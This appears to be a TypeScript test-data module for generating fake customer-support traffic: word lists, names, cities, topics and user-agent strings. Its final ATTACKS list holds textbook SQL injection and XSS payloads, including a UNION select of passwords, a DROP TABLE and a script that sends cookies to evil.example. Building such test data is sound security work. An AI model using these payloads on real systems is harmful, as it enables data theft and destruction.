/** What plausible values are made of. */
export const WORDS: readonly string[] = `
the and with for from about before after because however still again already maybe please thanks hello
order chair table garden lamp wooden blue grey small large second third broken missing wrong late early new old
delivery package invoice address account payment card refund return exchange warranty manual screw panel cushion
arrived ordered received opened called waited asked changed cancelled found checked looked sent paid tried
yesterday today tomorrow Monday Tuesday Friday morning evening week month year
driver neighbour customer service support shop store website email phone number photo colour size height weight
it's don't can't we've I'd you're isn't would could should might can will has have was were is are been
very quite really almost nearly only just also never always often sometimes
kitchen bedroom balcony house street town school office family children daughter brother
good great fine nice happy sad annoying strange confusing cheap expensive quick slow heavy light
união Straße café naïve größer mañana 日本 привет
one two three four five ten twenty first last next same other another every`
  .trim()
  .split(/\s+/);

export const NAMES: readonly string[] = `
Anna Ben Carla David Emma Farid Grace Hiro Ines Jakub Kofi Lena Mateo Nadia Olu Priya Quentin Rosa Sven Tariq Uma Victor
Wei Ximena Yusuf Zoe O'Brien Müller García Nowak Okafor Singh Tanaka Larsen Rossi Dubois D'Angelo`
  .trim()
  .split(/\s+/);

export const CITIES: readonly string[] = [
  'Leeds',
  'Porto',
  'Köln',
  'Lyon',
  'Oslo',
  'Kraków',
  'Osaka',
  'Lagos',
  'Quito',
];

export const TOPICS: readonly string[] = ['Delivery', 'Refund', 'Question', 'Broken part', 'Invoice', 'Praise'];

export const AGENTS: readonly string[] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36',
];

/** Textbook injections. `#` becomes a number that differs from request to request. */
export const ATTACKS: readonly string[] = [
  "1' OR '#'='#' -- ",
  "' UNION SELECT username, password FROM users WHERE id=# -- ",
  "'; DROP TABLE items_#; --",
  '1 AND SLEEP(#)',
  '<script>fetch("//evil.example/#?c="+document.cookie)</script>',
  '<img src=x onerror=alert(#)>',
  '"><svg onload=confirm(#)>',
  'javascript:eval("alert(#)")',
];
